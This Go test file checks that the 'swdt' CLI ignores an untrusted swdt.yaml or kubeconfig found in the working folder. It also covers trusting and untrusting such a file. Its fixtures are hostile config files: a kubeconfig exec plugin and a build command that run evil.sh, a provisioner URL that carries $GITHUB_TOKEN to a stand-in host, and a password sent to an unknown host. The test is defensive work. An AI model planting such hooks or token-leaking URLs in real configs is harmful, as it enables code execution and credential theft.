package cli_test

import (
	"bytes"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/swdt-dev/swdt/internal/cli"
	"github.com/swdt-dev/swdt/internal/testing/workdir"
	"github.com/swdt-dev/swdt/internal/ui"
)

// stranger is a folder with files of a stranger, and what shows that one of them had its way.
type stranger struct {
	address  string       // of the stranger's server
	contacts atomic.Int32 // how often it was contacted
	marker   string       // a file that the stranger's program makes
}

// newStranger makes a server and an empty working folder.
func newStranger(t *testing.T) *stranger {
	folder := t.TempDir()
	workdir.Change(t, folder)
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	t.Setenv("SWDT_CONFIG", "")
	t.Setenv("KUBECONFIG", "")
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	s := &stranger{address: listener.Addr().String(), marker: filepath.Join(folder, "ran")}
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			s.contacts.Add(1)
			conn.Close()
		}
	}()
	return s
}

func (s *stranger) hadItsWay() bool {
	_, err := os.Stat(s.marker)
	return err == nil || s.contacts.Load() > 0
}

// run returns the exit code and both outputs of swdt without a terminal.
func (s *stranger) run(t *testing.T, args ...string) (code int, stdout, stderr string) {
	var out, errs bytes.Buffer
	code = cli.Run(t.Context(), ui.Streams{Out: &out, Err: &errs}, args,
		cli.Environment{Agent: agent, Drivers: drivers})
	return code, out.String(), errs.String()
}

// A node file that swdt finds in the working folder acts only after the user has trusted it. Each of these files of
// a stranger had its way with the command that is first in its list.
func TestFilesOfAStranger(t *testing.T) {
	t.Setenv("GITHUB_TOKEN", "ghp-invented")
	node := func(spec string) string {
		return "apiVersion: windows.k8s.io/v1alpha1\nkind: Node\nmetadata: {name: win-1}\nspec:\n" + spec
	}
	for name, c := range map[string]struct {
		files    map[string]string // HOST stands for the stranger's server
		commands []string
	}{
		"a pod of its image": {map[string]string{
			"swdt.yaml": node("  credentials: {kubernetes: {node: win-1, kubeconfig: ./kubeconfig, namespace: theirs, image: images.example/theirs:1}}\n"),
			"kubeconfig": "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: c, cluster: {server: 'http://HOST'}}]\n" +
				"contexts: [{name: c, context: {cluster: c, user: u}}]\nusers: [{name: u, user: {token: t}}]\n",
		}, []string{"status", "doctor", "__complete logs pod/"}},
		"a program of its kubeconfig": {map[string]string{
			"swdt.yaml": node("  credentials: {kubernetes: {node: win-1, kubeconfig: ./kubeconfig}}\n"),
			"kubeconfig": "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: c, cluster: {server: 'http://HOST'}}]\n" +
				"contexts: [{name: c, context: {cluster: c, user: u}}]\nusers: [{name: u, user: {exec: {command: ./evil.sh, " +
				"apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never}}}]\n",
			"evil.sh": "#!/bin/sh\ntouch ran\n",
		}, []string{"doctor", "status", "__complete logs pod/"}},
		"a secret for its host": {map[string]string{
			"swdt.yaml": node("  credentials: {hostname: 'HOST', username: a, passwordFrom: {env: GITHUB_TOKEN},\n" +
				"    hostKey: 'SHA256:" + strings.Repeat("A", 43) + "'}\n"),
		}, []string{"__complete logs pod/", "status", "__complete exec -n ", "exec -- hostname"}},
		"a variable in a URL": {map[string]string{
			"swdt.yaml": node("  credentials: {hostname: 'HOST', username: a}\n  kubernetes:\n    provisioners:\n" +
				"    - {name: kubelet, sourceURL: 'http://HOST/x?t=$GITHUB_TOKEN', destination: 'C:\\k\\kubelet.exe'}\n"),
		}, []string{"push --dry-run", "status", "config init --write swdt.yaml"}},
		"a build": {map[string]string{
			"swdt.yaml": node("  credentials: {hostname: 'HOST', username: a}\n  kubernetes:\n    provisioners:\n" +
				"    - {name: kubelet, sourceURL: ./kubelet.exe, destination: 'C:\\k\\kubelet.exe', build: {command: ./evil.sh}}\n"),
			"evil.sh": "#!/bin/sh\ntouch ran\n",
		}, []string{"push --build", "push --watch", "status"}},
	} {
		t.Run(name, func(t *testing.T) {
			s := newStranger(t)
			for file, text := range c.files {
				if err := os.WriteFile(file, []byte(strings.ReplaceAll(text, "HOST", s.address)), 0o700); err != nil {
					t.Fatal(err)
				}
			}
			for _, command := range c.commands {
				args := strings.Split(command, " ")
				code, stdout, stderr := s.run(t, args...)
				switch {
				case s.hadItsWay():
					t.Fatalf("%s: %d contacts, %s", command, s.contacts.Load(), stderr)
				case args[0] == "__complete":
					if offered, _, _ := strings.Cut(stdout, ":"); strings.TrimSpace(offered) != "" {
						t.Errorf("%s offers %q", command, stdout)
					}
				case args[0] == "config":
					if code == 0 || !strings.Contains(stderr, "exists") {
						t.Errorf("%s: exit code %d, %s", command, code, stderr)
					}
				case code != 2 || strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "name it: -c swdt.yaml"):
					t.Errorf("%s: exit code %d, %s", command, code, stderr)
				}
			}
			// The same file, named: now the server or the program notices, so this test could.
			if first := strings.Split(c.commands[0], " "); first[0] == "__complete" {
				s.run(t, append([]string{"__complete", first[1], "-c", "swdt.yaml"}, first[2:]...)...)
			} else {
				s.run(t, append(first, "-c", "swdt.yaml", "--timeout", "2s", "--accept-new-host-key")...)
			}
			if !s.hadItsWay() {
				t.Error("the file has no effect if it is named, so this test shows nothing")
			}
		})
	}
}

// A file that is trusted works until it claims something else.
func TestATrustedFile(t *testing.T) {
	s := newStranger(t)
	write := func(user string) {
		text := "apiVersion: windows.k8s.io/v1alpha1\nkind: Node\nmetadata: {name: win-1}\nspec: {credentials: {hostname: '" +
			s.address + "', username: " + user + ", password: p}}\n"
		if err := os.WriteFile("swdt.yaml", []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("me")
	if code, stdout, stderr := s.run(t, "config", "trust"); code != 0 || !strings.Contains(stdout, "credentials.hostname: "+s.address) {
		t.Fatalf("exit code %d, %s%s", code, stdout, stderr)
	}
	if code, _, stderr := s.run(t, "status"); code != 3 || !s.hadItsWay() {
		t.Errorf("a trusted file: exit code %d, %s", code, stderr)
	}
	s.contacts.Store(0)
	write("you")
	code, _, stderr := s.run(t, "status")
	if code != 2 || s.hadItsWay() || !strings.Contains(stderr, "credentials.username of node win-1 is you, and was me") {
		t.Errorf("a changed file: exit code %d, %s", code, stderr)
	}
	write("me")
	if code, stdout, _ := s.run(t, "config", "untrust"); code != 0 || !strings.Contains(stdout, "swdt.yaml is not trusted any more") {
		t.Errorf("untrust: exit code %d, %s", code, stdout)
	}
	if code, _, _ := s.run(t, "status"); code != 2 || s.hadItsWay() {
		t.Errorf("a file that is not trusted any more: exit code %d", code)
	}
	if code, _, stderr := s.run(t, "config", "untrust"); code != 2 || !strings.Contains(stderr, "is not trusted") {
		t.Errorf("untrust again: exit code %d, %s", code, stderr)
	}
}
